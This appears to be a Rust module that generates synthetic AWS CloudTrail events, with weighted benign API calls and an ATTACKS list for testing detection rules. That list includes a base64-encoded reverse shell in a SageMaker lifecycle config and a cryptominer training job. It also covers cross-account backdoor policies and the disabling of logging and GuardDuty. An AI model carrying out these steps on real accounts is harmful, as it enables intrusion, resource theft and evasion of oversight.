//! What the corpus is made of: services, calls, shapes and how often they occur.
//!
//! Weights follow public samples of real accounts: reads are about seven tenths, and storage,
//! identity, keys, compute and logging make up most of the rest.

/// Calls of one service that share a shape.
#[derive(Debug)]
pub(super) struct Group {
    /// First label of the event source.
    pub(super) service: &'static str,
    /// How often each of the calls occurs, relative to the others.
    pub(super) weight: u32,
    /// Names of the calls.
    pub(super) names: &'static str,
    /// `requestParameters`, with slots.
    pub(super) request: &'static str,
    /// `responseElements`, with slots.
    pub(super) response: &'static str,
    /// Further fields that stand before `requestID`, with slots and a comma at the end.
    pub(super) additional: &'static str,
    /// Type of the data event, or empty for management events.
    pub(super) data: &'static str,
}

const fn reads(
    service: &'static str,
    weight: u32,
    names: &'static str,
    request: &'static str,
) -> Group {
    Group {
        service,
        weight,
        names,
        request,
        response: "null",
        additional: "",
        data: "",
    }
}

const fn writes(
    service: &'static str,
    weight: u32,
    names: &'static str,
    request: &'static str,
    response: &'static str,
) -> Group {
    Group {
        service,
        weight,
        names,
        request,
        response,
        additional: "",
        data: "",
    }
}

const S3_ADDITIONAL: &str = r#""additionalEventData":{"SignatureVersion":"SigV4","CipherSuite":"ECDHE-RSA-AES128-GCM-SHA256","bytesTransferredIn":<n9000>,"AuthenticationMethod":"AuthHeader","x-amz-id-2":"<l24>","bytesTransferredOut":<n900000>},"#;

const fn bucket(weight: u32, names: &'static str, request: &'static str) -> Group {
    Group {
        service: "s3",
        weight,
        names,
        request,
        response: "null",
        additional: S3_ADDITIONAL,
        data: "",
    }
}

const fn object(weight: u32, names: &'static str) -> Group {
    Group {
        service: "s3",
        weight,
        names,
        request: r#"{"bucketName":"<b>","Host":"<b>.s3.<r>.amazonaws.com","key":"<w>/<w>/dt=2026-03-<n28>/part-<n90000>-<x8>.snappy.parquet"}"#,
        response: "null",
        additional: S3_ADDITIONAL,
        data: "AWS::S3::Object",
    }
}

const EC2_FILTER: &str = r#"{"maxResults":<n1000>,"filterSet":{"items":[{"name":"vpc-id","valueSet":{"items":[{"value":"vpc-0<x4>a1b2c3d4e5f6"}]}},{"name":"tag:team","valueSet":{"items":[{"value":"<w>"},{"value":"<w>"}]}}]}}"#;

/// Every group of calls.
pub(super) const GROUPS: &[Group] = &[
    // Compute and network.
    reads(
        "ec2",
        30,
        "DescribeInstances DescribeNetworkInterfaces DescribeSecurityGroups DescribeSubnets DescribeVpcs DescribeVolumes DescribeInstanceStatus DescribeTags DescribeRouteTables DescribeImages",
        EC2_FILTER,
    ),
    reads(
        "ec2",
        8,
        "DescribeSnapshots DescribeAvailabilityZones DescribeRegions DescribeVpcEndpoints DescribeNatGateways DescribeKeyPairs DescribeAddresses DescribeLaunchTemplates DescribeSecurityGroupRules DescribeFlowLogs DescribeInternetGateways DescribeNetworkAcls DescribeInstanceTypes DescribeAccountAttributes DescribeVpcAttribute",
        EC2_FILTER,
    ),
    writes(
        "ec2",
        5,
        "RunInstances TerminateInstances StopInstances StartInstances",
        r#"{"instancesSet":{"items":[{"imageId":"ami-0<x16>","minCount":1,"maxCount":1,"keyName":"<w>-key"}]},"instanceType":"m6i.large","blockDeviceMapping":{"items":[{"deviceName":"/dev/xvda","ebs":{"volumeSize":<n200>,"deleteOnTermination":true,"volumeType":"gp3"}}]},"monitoring":{"enabled":false},"networkInterfaceSet":{"items":[{"deviceIndex":0,"subnetId":"subnet-0<x16>"}]},"tagSpecificationSet":{"items":[{"resourceType":"instance","tags":[{"key":"Name","value":"<w>-<w>"}]}]}}"#,
        r#"{"requestId":"<u>","reservationId":"r-0<x16>","ownerId":"<a>","groupSet":{},"instancesSet":{"items":[{"instanceId":"i-0<x16>","imageId":"ami-0<x16>","currentState":{"code":0,"name":"pending"},"previousState":{"code":80,"name":"stopped"},"privateDnsName":"ip-10-<n250>-<n250>-<n250>.<r>.compute.internal","amiLaunchIndex":0,"instanceType":"m6i.large","placement":{"availabilityZone":"<r>a","tenancy":"default"}}]}}"#,
    ),
    writes(
        "ec2",
        22,
        "CreateNetworkInterface DeleteNetworkInterface CreateTags",
        r#"{"subnetId":"subnet-0<x16>","description":"[Do not delete] ENI managed by the platform for <w>-<x8>","groupSet":{"items":[{"groupId":"sg-0<x16>"}]},"privateIpAddressesSet":{},"clientToken":"<u>"}"#,
        r#"{"requestId":"<u>","networkInterface":{"networkInterfaceId":"eni-0<x16>","subnetId":"subnet-0<x16>","vpcId":"vpc-0<x16>","availabilityZone":"<r>b","ownerId":"<a>","requesterManaged":false,"status":"pending","macAddress":"02:<x2>:<x2>:<x2>:<x2>:<x2>","privateIpAddress":"10.<n250>.<n250>.<n250>"}}"#,
    ),
    writes(
        "ec2",
        2,
        "AuthorizeSecurityGroupIngress RevokeSecurityGroupIngress ModifyInstanceAttribute CreateVolume AttachVolume CreateSnapshot",
        r#"{"groupId":"sg-0<x16>","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":443,"toPort":443,"groups":{},"ipRanges":{"items":[{"cidrIp":"10.<n250>.0.0/16","description":"<w>"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}"#,
        r#"{"requestId":"<u>","_return":true}"#,
    ),
    reads(
        "elasticloadbalancing",
        8,
        "DescribeLoadBalancers DescribeTargetGroups DescribeTargetHealth DescribeListeners DescribeRules DescribeTags",
        r#"{"targetGroupArn":"arn:aws:elasticloadbalancing:<r>:<a>:targetgroup/<w>-<w>/<x16>"}"#,
    ),
    writes(
        "elasticloadbalancing",
        4,
        "RegisterTargets DeregisterTargets",
        r#"{"targetGroupArn":"arn:aws:elasticloadbalancing:<r>:<a>:targetgroup/<w>/<x16>","targets":[{"id":"10.<n250>.<n250>.<n250>","port":8080,"availabilityZone":"<r>a"}]}"#,
        "null",
    ),
    reads(
        "autoscaling",
        7,
        "DescribeAutoScalingGroups DescribeScalingActivities DescribePolicies DescribeScalableTargets",
        r#"{"autoScalingGroupNames":["<w>-<w>-<x8>"],"maxRecords":<n100>}"#,
    ),
    writes(
        "autoscaling",
        2,
        "SetDesiredCapacity UpdateAutoScalingGroup TerminateInstanceInAutoScalingGroup",
        r#"{"autoScalingGroupName":"<w>-<w>","desiredCapacity":<n20>,"honorCooldown":false}"#,
        "null",
    ),
    // Storage.
    object(150, "GetObject"),
    object(40, "HeadObject"),
    object(150, "PutObject"),
    object(
        9,
        "DeleteObject GetObjectTagging CompleteMultipartUpload UploadPart",
    ),
    bucket(
        22,
        "ListObjects GetBucketLocation",
        r#"{"list-type":"2","bucketName":"<b>","prefix":"<w>/<w>/","encoding-type":"url","Host":"<b>.s3.<r>.amazonaws.com"}"#,
    ),
    bucket(
        10,
        "GetBucketAcl GetBucketPolicy GetBucketEncryption GetBucketVersioning GetBucketPublicAccessBlock GetBucketLogging GetBucketTagging GetBucketLifecycle GetBucketPolicyStatus GetBucketReplication GetBucketNotification GetBucketOwnershipControls ListBuckets",
        r#"{"bucketName":"<b>","Host":"<b>.s3.<r>.amazonaws.com","acl":""}"#,
    ),
    bucket(
        1,
        "PutBucketTagging PutBucketLifecycle PutBucketNotification",
        r#"{"bucketName":"<b>","Host":"<b>.s3.<r>.amazonaws.com","lifecycle":"","LifecycleConfiguration":{"Rule":{"ID":"<w>","Status":"Enabled","Filter":{"Prefix":"<w>/"},"Expiration":{"Days":<n400>}}}}"#,
    ),
    reads(
        "elasticfilesystem",
        3,
        "DescribeFileSystems DescribeMountTargets DescribeAccessPoints",
        r#"{"fileSystemId":"fs-0<x16>","maxItems":100}"#,
    ),
    reads(
        "backup",
        3,
        "ListBackupJobs ListBackupVaults DescribeBackupVault ListRecoveryPointsByBackupVault",
        r#"{"backupVaultName":"<w>-vault","maxResults":100}"#,
    ),
    // Identity and keys.
    reads(
        "iam",
        9,
        "GetRole ListRoles ListAttachedRolePolicies ListRolePolicies GetPolicy GetPolicyVersion GetRolePolicy ListPolicies ListUsers GetUser ListAccessKeys GetInstanceProfile ListInstanceProfiles GetAccountSummary ListMFADevices GetAccessKeyLastUsed ListGroupsForUser ListPolicyVersions GetAccountPasswordPolicy ListOpenIDConnectProviders SimulatePrincipalPolicy",
        r#"{"roleName":"<w>-<w>-role","maxItems":100}"#,
    ),
    writes(
        "iam",
        1,
        "PutRolePolicy AttachRolePolicy TagRole DetachRolePolicy CreatePolicyVersion DeletePolicyVersion",
        r#"{"roleName":"<w>-<w>-role","policyName":"<w>","policyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"<w>\",\"Effect\":\"Allow\",\"Action\":[\"s3:GetObject\",\"s3:ListBucket\"],\"Resource\":[\"arn:aws:s3:::<b>\",\"arn:aws:s3:::<b>/<w>/*\"]}]}"}"#,
        "null",
    ),
    writes(
        "sts",
        120,
        "AssumeRole",
        r#"{"roleArn":"arn:aws:iam::<a>:role/<w>-<w>-role","roleSessionName":"<w>-<x16>","externalId":"<w>","durationSeconds":3600}"#,
        r#"{"credentials":{"accessKeyId":"ASIAEXAMPLE<c9>","sessionToken":"<l24>","expiration":"<t>"},"assumedRoleUser":{"assumedRoleId":"AROAEXAMPLE<c10>:<w>-<x8>","arn":"arn:aws:sts::<a>:assumed-role/<w>-<w>-role/<w>-<x8>"}}"#,
    ),
    reads("sts", 20, "GetCallerIdentity", "null"),
    writes(
        "sts",
        10,
        "AssumeRoleWithWebIdentity AssumeRoleWithSAML",
        r#"{"roleArn":"arn:aws:iam::<a>:role/<w>-irsa","roleSessionName":"<w>-<n90000>","durationSeconds":3600}"#,
        r#"{"subjectFromWebIdentityToken":"system:serviceaccount:<w>:<w>","credentials":{"accessKeyId":"ASIAEXAMPLE<c9>","sessionToken":"<l24>","expiration":"<t>"},"audience":"sts.amazonaws.com","provider":"arn:aws:iam::<a>:oidc-provider/oidc.eks.<r>.amazonaws.com/id/<c32>"}"#,
    ),
    reads(
        "kms",
        55,
        "Decrypt GenerateDataKey",
        r#"{"encryptionContext":{"aws:s3:arn":"arn:aws:s3:::<b>/<w>/<x8>","<w>":"<w>"},"encryptionAlgorithm":"SYMMETRIC_DEFAULT","keyId":"arn:aws:kms:<r>:<a>:key/<k>"}"#,
    ),
    reads(
        "kms",
        6,
        "DescribeKey ListAliases GetKeyPolicy GetKeyRotationStatus ListGrants ListKeys ListResourceTags",
        r#"{"keyId":"arn:aws:kms:<r>:<a>:key/<k>","limit":100}"#,
    ),
    writes(
        "kms",
        5,
        "CreateGrant RetireGrant",
        r#"{"keyId":"arn:aws:kms:<r>:<a>:key/<k>","granteePrincipal":"arn:aws:sts::<a>:assumed-role/<w>-<w>-role/<x8>","operations":["Decrypt","GenerateDataKeyWithoutPlaintext"],"constraints":{"encryptionContextSubset":{"aws:ebs:id":"vol-0<x16>"}}}"#,
        r#"{"grantId":"<x64>","keyId":"arn:aws:kms:<r>:<a>:key/<k>"}"#,
    ),
    reads(
        "secretsmanager",
        16,
        "GetSecretValue",
        r#"{"secretId":"arn:aws:secretsmanager:<r>:<a>:secret:<w>/<w>-<l6>","versionStage":"AWSCURRENT"}"#,
    ),
    reads(
        "secretsmanager",
        4,
        "DescribeSecret ListSecrets",
        r#"{"secretId":"<w>/<w>","maxResults":100}"#,
    ),
    reads(
        "ssm",
        22,
        "GetParameter GetParameters GetParametersByPath",
        r#"{"name":"/<w>/<w>/<w>","withDecryption":true}"#,
    ),
    reads(
        "ssm",
        8,
        "DescribeInstanceInformation ListAssociations DescribeParameters GetDeployablePatchSnapshotForInstance ListCommands",
        r#"{"maxResults":50,"filters":[{"key":"InstanceIds","valueSet":["i-0<x16>"]}]}"#,
    ),
    writes(
        "ssm",
        42,
        "UpdateInstanceInformation PutComplianceItems UpdateInstanceAssociationStatus",
        r#"{"instanceId":"i-0<x16>","agentVersion":"3.3.1345.0","agentStatus":"Active","platformType":"Linux","platformName":"Amazon Linux","platformVersion":"2023","iPAddress":"10.<n250>.<n250>.<n250>","computerName":"ip-10-<n250>-<n250>-<n250>.<r>.compute.internal","agentName":"amazon-ssm-agent","availabilityZone":"<r>a","availabilityZoneId":"euw1-az<n3>","sSMConnectionChannel":"ssmmessages"}"#,
        "null",
    ),
    reads(
        "acm",
        3,
        "DescribeCertificate ListCertificates ListTagsForCertificate",
        r#"{"certificateArn":"arn:aws:acm:<r>:<a>:certificate/<k>"}"#,
    ),
    // Logs and monitoring.
    writes(
        "logs",
        90,
        "CreateLogStream",
        r#"{"logGroupName":"/aws/<w>/<w>","logStreamName":"2026/03/<n28>/[$LATEST]<x32>"}"#,
        "null",
    ),
    reads(
        "logs",
        9,
        "DescribeLogGroups DescribeLogStreams GetLogEvents FilterLogEvents GetQueryResults",
        r#"{"logGroupName":"/aws/<w>/<w>","logStreamName":"<w>/<w>/<x32>","startFromHead":true,"limit":<n1000>}"#,
    ),
    writes(
        "logs",
        4,
        "CreateLogGroup StartQuery",
        r#"{"logGroupName":"/aws/<w>/<w>-<x8>","queryString":"fields @timestamp, @message | filter level = '<w>' | limit <n1000>"}"#,
        r#"{"queryId":"<u>"}"#,
    ),
    reads(
        "monitoring",
        14,
        "DescribeAlarms GetMetricData ListMetrics GetMetricStatistics DescribeAlarmHistory",
        r#"{"alarmNamePrefix":"TargetTracking-<w>-<w>","maxRecords":100}"#,
    ),
    writes(
        "monitoring",
        3,
        "PutMetricAlarm DeleteAlarms",
        r#"{"alarmName":"TargetTracking-<w>-<w>-AlarmHigh-<u>","metricName":"CPUUtilization","namespace":"AWS/ECS","statistic":"Average","period":60,"evaluationPeriods":3,"threshold":<n90>,"comparisonOperator":"GreaterThanThreshold","dimensions":[{"name":"ServiceName","value":"<w>"}]}"#,
        "null",
    ),
    reads(
        "cloudtrail",
        4,
        "LookupEvents DescribeTrails GetTrailStatus GetEventSelectors ListTrails",
        r#"{"maxResults":50,"lookupAttributes":[{"attributeKey":"EventName","attributeValue":"<w>"}]}"#,
    ),
    reads(
        "config",
        6,
        "DescribeConfigRules GetResourceConfigHistory DescribeConfigurationRecorders BatchGetResourceConfig DescribeComplianceByConfigRule SelectResourceConfig",
        r#"{"resourceKeys":[{"resourceType":"AWS::EC2::Instance","resourceId":"i-0<x16>"}],"limit":<n100>}"#,
    ),
    writes(
        "config",
        40,
        "PutEvaluations",
        r#"{"resultToken":"<l60>","evaluations":[{"complianceResourceType":"AWS::S3::Bucket","complianceResourceId":"<b>","complianceType":"COMPLIANT","orderingTimestamp":"<t>"}]}"#,
        r#"{"failedEvaluations":[]}"#,
    ),
    reads(
        "guardduty",
        3,
        "ListDetectors ListFindings GetFindings GetDetector",
        r#"{"detectorId":"<x32>","findingCriteria":{"criterion":{"severity":{"gte":<n8>}}},"maxResults":50}"#,
    ),
    reads(
        "securityhub",
        3,
        "GetFindings DescribeHub GetEnabledStandards",
        r#"{"Filters":{"WorkflowStatus":[{"Value":"NEW","Comparison":"EQUALS"}],"SeverityLabel":[{"Value":"HIGH","Comparison":"EQUALS"}]},"MaxResults":100}"#,
    ),
    reads(
        "tagging",
        5,
        "GetResources GetTagKeys",
        r#"{"resourcesPerPage":100,"tagFilters":[{"key":"team","values":["<w>"]}]}"#,
    ),
    reads(
        "health",
        4,
        "DescribeEventAggregates DescribeEvents",
        r#"{"filter":{"eventStatusCodes":["open","upcoming"]},"aggregateField":"eventTypeCategory"}"#,
    ),
    reads(
        "organizations",
        2,
        "DescribeOrganization ListAccounts ListPolicies DescribeAccount",
        r#"{"accountId":"<a>","maxResults":20}"#,
    ),
    reads(
        "servicequotas",
        2,
        "ListServiceQuotas GetServiceQuota",
        r#"{"serviceCode":"ec2","quotaCode":"L-<c8>"}"#,
    ),
    // Applications.
    reads(
        "lambda",
        8,
        "GetFunction20150331v2 ListFunctions20150331 GetFunctionConfiguration20150331v2 GetPolicy20150331v2 ListEventSourceMappings20150331 ListTags20170331",
        r#"{"functionName":"arn:aws:lambda:<r>:<a>:function:<w>-<w>","maxItems":50}"#,
    ),
    writes(
        "lambda",
        2,
        "UpdateFunctionCode20150331v2 UpdateFunctionConfiguration20150331v2 PublishVersion20150331",
        r#"{"functionName":"<w>-<w>","s3Bucket":"<b>","s3Key":"<w>/<x40>.zip","publish":false,"dryRun":false}"#,
        r#"{"functionName":"<w>-<w>","functionArn":"arn:aws:lambda:<r>:<a>:function:<w>-<w>","runtime":"python3.12","role":"arn:aws:iam::<a>:role/<w>-role","handler":"app.handler","codeSize":<n90000>,"timeout":60,"memorySize":512,"codeSha256":"<l43>=","version":"$LATEST","revisionId":"<u>"}"#,
    ),
    reads(
        "ecs",
        9,
        "DescribeServices DescribeTasks ListTasks DescribeClusters DescribeTaskDefinition ListServices",
        r#"{"cluster":"<w>-cluster","tasks":["arn:aws:ecs:<r>:<a>:task/<w>-cluster/<x32>"]}"#,
    ),
    writes(
        "ecs",
        20,
        "SubmitTaskStateChange RunTask StopTask",
        r#"{"cluster":"arn:aws:ecs:<r>:<a>:cluster/<w>-cluster","task":"arn:aws:ecs:<r>:<a>:task/<w>-cluster/<x32>","status":"RUNNING","containers":[{"containerName":"<w>","runtimeId":"<x32>","status":"RUNNING"}]}"#,
        r#"{"acknowledgment":"Submission accepted"}"#,
    ),
    reads(
        "ecr",
        12,
        "BatchGetImage GetDownloadUrlForLayer DescribeImages DescribeRepositories GetRepositoryPolicy BatchCheckLayerAvailability",
        r#"{"registryId":"<a>","repositoryName":"<w>/<w>","imageIds":[{"imageTag":"<x40>"}],"acceptedMediaTypes":["application/vnd.docker.distribution.manifest.v2+json"]}"#,
    ),
    writes(
        "ecr",
        5,
        "GetAuthorizationToken InitiateLayerUpload UploadLayerPart CompleteLayerUpload",
        r#"{"registryId":"<a>","repositoryName":"<w>/<w>","uploadId":"<u>","partFirstByte":0,"partLastByte":<n900000>}"#,
        r#"{"registryId":"<a>","repositoryName":"<w>/<w>","layerDigest":"sha256:<x64>"}"#,
    ),
    reads(
        "eks",
        6,
        "DescribeCluster ListClusters DescribeNodegroup ListNodegroups AccessKubernetesApi",
        r#"{"name":"<w>-eks","nodegroupName":"<w>"}"#,
    ),
    reads(
        "dynamodb",
        9,
        "DescribeTable ListTables DescribeTimeToLive DescribeContinuousBackups ListTagsOfResource",
        r#"{"tableName":"<w>-<w>"}"#,
    ),
    reads(
        "rds",
        7,
        "DescribeDBInstances DescribeDBClusters DescribeDBSnapshots DescribePendingMaintenanceActions ListTagsForResource",
        r#"{"dBInstanceIdentifier":"<w>-db-<n9>","maxRecords":100}"#,
    ),
    reads(
        "sqs",
        3,
        "ListQueues GetQueueAttributes GetQueueUrl",
        r#"{"queueUrl":"https://sqs.<r>.amazonaws.com/<a>/<w>-<w>","attributeNames":["All"]}"#,
    ),
    reads(
        "sns",
        3,
        "ListTopics GetTopicAttributes ListSubscriptionsByTopic",
        r#"{"topicArn":"arn:aws:sns:<r>:<a>:<w>-<w>"}"#,
    ),
    reads(
        "states",
        4,
        "DescribeExecution GetExecutionHistory ListExecutions",
        r#"{"executionArn":"arn:aws:states:<r>:<a>:execution:<w>-<w>:<u>","maxResults":<n1000>}"#,
    ),
    writes(
        "states",
        3,
        "StartExecution",
        r#"{"stateMachineArn":"arn:aws:states:<r>:<a>:stateMachine:<w>-<w>","name":"<u>","input":"HIDDEN_DUE_TO_SECURITY_REASONS"}"#,
        r#"{"executionArn":"arn:aws:states:<r>:<a>:execution:<w>-<w>:<u>","startDate":"<t>"}"#,
    ),
    reads(
        "events",
        3,
        "ListRules DescribeRule ListTargetsByRule",
        r#"{"name":"<w>-<w>-schedule","eventBusName":"default"}"#,
    ),
    reads(
        "cloudformation",
        6,
        "DescribeStacks ListStackResources GetTemplate DescribeStackEvents ListStacks",
        r#"{"stackName":"arn:aws:cloudformation:<r>:<a>:stack/<w>-<w>/<k>"}"#,
    ),
    reads(
        "apigateway",
        3,
        "GetRestApis GetStages GetResources",
        r#"{"restApiId":"<l10>","template":false,"limit":<n500>}"#,
    ),
    // Data.
    reads(
        "glue",
        9,
        "GetTable GetTables GetPartitions GetDatabase GetJobRun GetDatabases",
        r#"{"catalogId":"<a>","databaseName":"lake_<w>","name":"<w>_<w>","maxResults":<n1000>}"#,
    ),
    writes(
        "glue",
        4,
        "StartJobRun UpdateTable BatchCreatePartition",
        r#"{"jobName":"<w>-<w>-etl","arguments":{"--input":"s3://<b>/<w>/","--run-date":"2026-03-<n28>","--job-bookmark-option":"job-bookmark-enable"},"workerType":"G.1X","numberOfWorkers":<n20>}"#,
        r#"{"jobRunId":"jr_<x64>"}"#,
    ),
    reads(
        "athena",
        8,
        "GetQueryExecution GetQueryResults ListWorkGroups GetWorkGroup",
        r#"{"queryExecutionId":"<u>","maxResults":<n1000>}"#,
    ),
    writes(
        "athena",
        5,
        "StartQueryExecution",
        r#"{"queryString":"***OMITTED***","clientRequestToken":"<u>","queryExecutionContext":{"database":"lake_<w>"},"resultConfiguration":{"outputLocation":"s3://<b>/athena/"},"workGroup":"<w>"}"#,
        r#"{"queryExecutionId":"<u>"}"#,
    ),
    reads(
        "lakeformation",
        4,
        "GetDataAccess ListPermissions",
        r#"{"tableArn":"arn:aws:glue:<r>:<a>:table/lake_<w>/<w>","durationSeconds":3600,"auditContext":{"additionalAuditContext":"{queryId: <u>}"}}"#,
    ),
    reads(
        "redshift",
        2,
        "DescribeClusters DescribeClusterSnapshots",
        r#"{"clusterIdentifier":"<w>-dw","maxRecords":100}"#,
    ),
    // SageMaker: two to four per cent of all.
    reads(
        "sagemaker",
        5,
        "DescribeTrainingJob DescribeEndpoint ListTrainingJobs DescribeProcessingJob ListEndpoints DescribeDomain ListApps DescribeApp ListModels ListPipelineExecutionSteps DescribeModelPackage ListNotebookInstances",
        r#"{"maxResults":<n100>,"nameContains":"<w>","sortBy":"CreationTime","trainingJobName":"<w>-<w>-<x8>"}"#,
    ),
    writes(
        "sagemaker",
        3,
        "CreateTrainingJob",
        r#"{"trainingJobName":"<w>-<w>-<x8>","roleArn":"arn:aws:iam::<a>:role/service-role/SageMaker-ExecutionRole-<w>","algorithmSpecification":{"trainingImage":"763104351884.dkr.ecr.eu-west-1.amazonaws.com/pytorch-training:2.5.1-cpu-py311-ubuntu22.04-sagemaker","trainingInputMode":"File"},"inputDataConfig":[{"channelName":"train","dataSource":{"s3DataSource":{"s3DataType":"S3Prefix","s3Uri":"s3://<b>/<w>/train/","s3DataDistributionType":"FullyReplicated"}}}],"outputDataConfig":{"s3OutputPath":"s3://<b>/<w>/output","kmsKeyId":"arn:aws:kms:<r>:<a>:key/<k>"},"resourceConfig":{"instanceType":"ml.m5.2xlarge","instanceCount":1,"volumeSizeInGB":<n200>},"stoppingCondition":{"maxRuntimeInSeconds":<n86400>},"enableNetworkIsolation":true,"enableInterContainerTrafficEncryption":true,"tags":[{"key":"project","value":"<w>"}]}"#,
        r#"{"trainingJobArn":"arn:aws:sagemaker:<r>:<a>:training-job/<w>-<w>-<x8>"}"#,
    ),
    writes(
        "sagemaker",
        2,
        "AddTags StopTrainingJob StartPipelineExecution CreatePresignedDomainUrl",
        TAGS_REQUEST,
        "null",
    ),
    Group {
        service: "sagemaker",
        weight: 18,
        names: "InvokeEndpoint",
        request: "null",
        response: "null",
        additional: r#""resources":[{"accountId":"<a>","type":"AWS::SageMaker::Endpoint","ARN":"arn:aws:sagemaker:<r>:<a>:endpoint/<w>-scoring"}],"#,
        data: "AWS::SageMaker::Endpoint",
    },
];

const TAGS_REQUEST: &str = r#"{"resourceArn":"arn:aws:sagemaker:<r>:<a>:pipeline/<w>-<w>","tags":[{"key":"team","value":"<w>"},{"key":"cost-centre","value":"cc-<n900>"}]}"#;

/// Events that rules should find: the call, and parameters that make it more than a name.
pub(super) const ATTACKS: &[Group] = &[
    writes(
        "cloudtrail",
        1,
        "StopLogging",
        r#"{"name":"arn:aws:cloudtrail:<r>:<a>:trail/<w>"}"#,
        "null",
    ),
    writes(
        "sagemaker",
        1,
        "PutModelPackageGroupPolicy",
        r#"{"modelPackageGroupName":"<w>","resourcePolicy":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::999988887777:root\"},\"Action\":\"sagemaker:*\",\"Resource\":\"*\"}]}"}"#,
        "null",
    ),
    // The script is: bash -i >& /dev/tcp/192.0.2.7/4444 0>&1
    writes(
        "sagemaker",
        1,
        "CreateNotebookInstanceLifecycleConfig",
        r#"{"notebookInstanceLifecycleConfigName":"<w>-<x8>","onStart":[{"content":"IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQ0NCAwPiYxCg=="}]}"#,
        "null",
    ),
    writes(
        "iam",
        1,
        "UpdateAssumeRolePolicy",
        r#"{"roleName":"SageMaker-ExecutionRole-<w>","policyDocument":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::999988887777:root\"},\"Action\":\"sts:AssumeRole\"}]}"}"#,
        "null",
    ),
    writes(
        "sagemaker",
        1,
        "CreateTrainingJob",
        r#"{"trainingJobName":"<w>-<x8>","roleArn":"arn:aws:iam::<a>:role/service-role/SageMaker-ExecutionRole-<w>","algorithmSpecification":{"trainingImage":"999988887777.dkr.ecr.us-west-2.amazonaws.com/gpu-tools:latest","trainingInputMode":"File","containerEntrypoint":["/bin/sh","-c"],"containerArguments":["/opt/xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1"]},"outputDataConfig":{"s3OutputPath":"s3://ml-export-999988887777/o/"},"resourceConfig":{"instanceType":"ml.p4d.24xlarge","instanceCount":8,"volumeSizeInGB":50},"stoppingCondition":{"maxRuntimeInSeconds":432000}}"#,
        r#"{"trainingJobArn":"arn:aws:sagemaker:<r>:<a>:training-job/<w>"}"#,
    ),
    writes(
        "sagemaker",
        1,
        "DeleteTrainingJob",
        r#"{"trainingJobName":"<w>-<x8>"}"#,
        "null",
    ),
    writes(
        "guardduty",
        1,
        "DeleteDetector",
        r#"{"detectorId":"<x32>"}"#,
        "null",
    ),
    writes(
        "kms",
        1,
        "ScheduleKeyDeletion",
        r#"{"keyId":"arn:aws:kms:<r>:<a>:key/<k>","pendingWindowInDays":7}"#,
        r#"{"keyId":"arn:aws:kms:<r>:<a>:key/<k>","deletionDate":"<t>"}"#,
    ),
    writes(
        "iam",
        1,
        "CreateAccessKey",
        r#"{"userName":"<w>"}"#,
        r#"{"accessKey":{"userName":"<w>","accessKeyId":"AKIAEXAMPLE<c9>","status":"Active"}}"#,
    ),
    writes(
        "logs",
        1,
        "PutRetentionPolicy",
        r#"{"logGroupName":"/aws/sagemaker/TrainingJobs","retentionInDays":1}"#,
        "null",
    ),
];

/// Words of names: projects, components, stages.
pub(super) const WORDS: &[&str] = &[
    "orders",
    "billing",
    "search",
    "catalog",
    "payments",
    "shipping",
    "identity",
    "gateway",
    "reports",
    "metrics",
    "ledger",
    "pricing",
    "customer",
    "inventory",
    "feature",
    "training",
    "scoring",
    "ingest",
    "export",
    "staging",
    "prod",
    "dev",
    "shared",
    "platform",
    "archive",
    "events",
    "sessions",
    "profile",
    "content",
    "media",
    "review",
    "invoice",
    "quality",
    "churn",
    "fraud",
    "forecast",
];
